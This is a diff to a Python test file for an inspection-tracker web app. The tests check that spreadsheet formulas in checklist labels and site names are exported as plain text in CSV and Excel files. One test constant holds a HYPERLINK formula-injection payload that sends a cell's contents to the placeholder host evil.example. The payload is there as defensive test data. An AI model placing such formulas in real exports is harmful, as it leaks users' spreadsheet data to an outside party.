@@ -5,7 +5,6 @@ import io
 from openpyxl import load_workbook
 
 from tests.test_summary import NOW, add_inspection
-from tracker import clock
 from tracker.services import checklist, reports
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"열기")'
@@ -21,12 +20,13 @@ def _csv_rows(body: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
 
 
-def test_a_formula_in_a_checklist_label_is_text_in_both_exports(db, client, login, site_factory):
-    clock.set_now(NOW)
-    tpl = _published_with_hostile_label()
-    site = site_factory(name="+SUM(1,2)", dong="여의동")
-    add_inspection(db, tpl, site, "2020-W11", "onsite", {tpl.items[0].key: "no"})
-    db.session.commit()
+def test_a_formula_in_a_checklist_label_is_text_in_both_exports(app, db, client, login, site_factory, clock_at):
+    clock_at(NOW)
+    with app.app_context():
+        tpl = _published_with_hostile_label()
+        site = site_factory(name="+SUM(1,2)", dong="여의동")
+        add_inspection(db, tpl, site, "2020-W11", "onsite", {tpl.items[0].key: "no"})
+        db.session.commit()
     login("lead")
     url = "/dashboard/export/inspections.{}?from=2020-W11&to=2020-W11"
     head, row = _csv_rows(client.get(url.format("csv")).data)
@@ -50,12 +50,13 @@ def test_register_export_escapes_names_and_keeps_korean(db, client, login, site_
     assert cell.value == "=1+1" and cell.data_type == "s"
 
 
-def test_long_exports_stream_as_they_are_written(db, client, login, site_factory):
-    clock.set_now(NOW)
-    tpl = checklist.ensure_default()
-    for n in range(3):
-        add_inspection(db, tpl, site_factory(name=f"센터{n}"), "2020-W11", "phone", {"masks_mandatory": "yes"})
-    db.session.commit()
+def test_long_exports_stream_as_they_are_written(app, db, client, login, site_factory, clock_at):
+    clock_at(NOW)
+    with app.app_context():
+        tpl = checklist.ensure_default()
+        for n in range(3):
+            add_inspection(db, tpl, site_factory(name=f"센터{n}"), "2020-W11", "phone", {"masks_mandatory": "yes"})
+        db.session.commit()
     login("lead")
     resp = client.get("/dashboard/export/inspections.csv?from=2020-W11&to=2020-W11")
     assert resp.is_streamed and "attachment" in resp.headers["Content-Disposition"]
